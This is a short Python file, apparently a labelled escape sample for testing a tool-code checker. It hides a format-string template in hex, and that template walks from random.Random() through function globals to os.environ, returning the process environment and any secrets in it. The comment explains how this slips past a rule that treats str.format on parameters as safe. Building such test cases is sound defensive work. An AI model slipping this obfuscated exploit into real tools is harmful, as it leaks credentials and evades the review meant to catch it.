# family: format
# Escape: str.format on a parameter is accepted as "caller data", but here the tool itself passes a template it
# decoded from hex: "{0.__init__.__globals__[_os].environ}". Formatting random.Random() walks
# Random.__init__ (a Python function) -> its module globals -> os -> environ, and returns the environment.
import random


def render(template: str, value) -> str:
    return template.format(value)


def tool() -> str:
    return render(bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode(), random.Random())
